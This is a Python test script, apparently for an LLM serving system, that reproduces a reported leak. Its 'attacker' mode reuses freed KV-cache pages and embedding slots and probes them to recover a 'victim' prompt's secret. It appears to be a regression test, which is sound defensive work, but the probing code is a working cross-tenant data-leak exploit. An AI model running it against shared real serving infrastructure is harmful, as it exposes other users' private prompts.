"""Issue #17's first attack, as written: what a previous owner left in KV pages and embedding slots.
`l4m run leak.py -- MODE SECRET`; each mode reports one JSON line.

  victim SECRET    writes a prompt holding SECRET into 2 KV pages (26 token slots) and SECRET's tokens into
                   embedding slots, probes its own pages and slots exactly as the attacker will (so the test
                   can see the probe depends on what the pages hold), then ends, freeing them
  attacker         takes fresh pages and slots (the scheduler hands out the last freed first) and, without
                   writing them, feeds one token at slot 26 with causal attention over slots 0..25 of each
                   pair of pages, and asks `sample_top_k` of each slot

A probe is the top-5 (token, probability) of the answer, rounded to 4 digits (float noise aside)."""

import asyncio
import json

from l4m.v1 import common_pb2

NUM_PAGES = 8  # the attacker's: the victim's 2 pages and more (other tests' instances ended before)
NUM_SLOTS = 16
PROBE_SLOT = 26  # the attacker's token goes here and attends slots 0..25
TOP_K = 5


def _rounded(distribution):
    return [[int(t), round(float(p), 4)] for t, p in zip(distribution.token_ids, distribution.probabilities, strict=True)]


async def _allocate(ctx, kind, count, stream_id):
    pool = ctx.model.kv_pages if kind == common_pb2.RESOURCE_KIND_KV_PAGE else None
    ids = pool.acquire(count, stream_id) if pool is not None else list(range(count))
    ctx.model.session.send("allocate", common_pb2.AllocateItem(kind=kind, ids=ids), stream_id)
    return ids


async def _probe_pages(ctx, pair, token_id, stream_id):
    size = ctx.model.kv_page_size
    item = common_pb2.ForwardTextItem(
        kv_page_ids=pair, kv_last_page_length=PROBE_SLOT + 1 - size, token_ids=[token_id],
        position_ids=[PROBE_SLOT], output_indices=[0],
        samplers=[common_pb2.SamplerSpec(kind=common_pb2.SAMPLER_KIND_DISTRIBUTION, distribution_top_k=TOP_K)],
    )
    reply = await ctx.model.session.request("forward_text", item, stream_id)
    return _rounded(reply.forward_text.outputs[0].distribution)


async def _probe_slot(ctx, slot, stream_id):
    reply = await ctx.model.session.request(
        "sample_top_k", common_pb2.SampleTopKItem(embed_slot_id=slot, k=TOP_K), stream_id)
    return _rounded(reply.sample_top_k)


async def victim(ctx, secret):
    stream = 1
    pages = await _allocate(ctx, common_pb2.RESOURCE_KIND_KV_PAGE, 2, stream)
    tokens = ctx.tokenizer.encode(f"The vault code is {secret}. Say it again: the vault code is {secret}.")
    tokens = (tokens * 4)[:PROBE_SLOT]
    fill = common_pb2.ForwardTextItem(kv_page_ids=pages, kv_last_page_length=PROBE_SLOT - ctx.model.kv_page_size,
                                      token_ids=tokens, position_ids=list(range(PROBE_SLOT)))
    ctx.model.session.send("forward_text", fill, stream)
    slots = await _allocate(ctx, common_pb2.RESOURCE_KIND_EMBED_SLOT, NUM_SLOTS, stream)
    secret_tokens = (ctx.tokenizer.encode(secret) * NUM_SLOTS)[:NUM_SLOTS]
    ctx.model.session.send("embed_text", common_pb2.EmbedTextItem(
        embed_slot_ids=slots, token_ids=secret_tokens, position_ids=list(range(NUM_SLOTS))), stream)
    probe_token = ctx.tokenizer.encode(" is")[0]
    page_probe = await _probe_pages(ctx, pages, probe_token, stream)
    slot_probes = [await _probe_slot(ctx, slot, stream) for slot in slots]
    await ctx.send(json.dumps({"pages": [page_probe], "slots": slot_probes}))


async def attacker(ctx):
    stream = 1
    pages = await _allocate(ctx, common_pb2.RESOURCE_KIND_KV_PAGE, NUM_PAGES, stream)
    slots = await _allocate(ctx, common_pb2.RESOURCE_KIND_EMBED_SLOT, NUM_SLOTS, stream)
    probe_token = ctx.tokenizer.encode(" is")[0]
    pairs = [pages[i:i + 2] for i in range(0, NUM_PAGES, 2)]
    page_probes = await asyncio.gather(*(_probe_pages(ctx, pair, probe_token, stream) for pair in pairs))
    slot_probes = [await _probe_slot(ctx, slot, stream) for slot in slots]
    await ctx.send(json.dumps({"pages": page_probes, "slots": slot_probes}))


async def main(ctx):
    mode, *args = ctx.args
    if mode == "victim":
        await victim(ctx, args[0])
    elif mode == "attacker":
        await attacker(ctx)
    else:
        raise SystemExit(f"unknown mode {mode!r}")
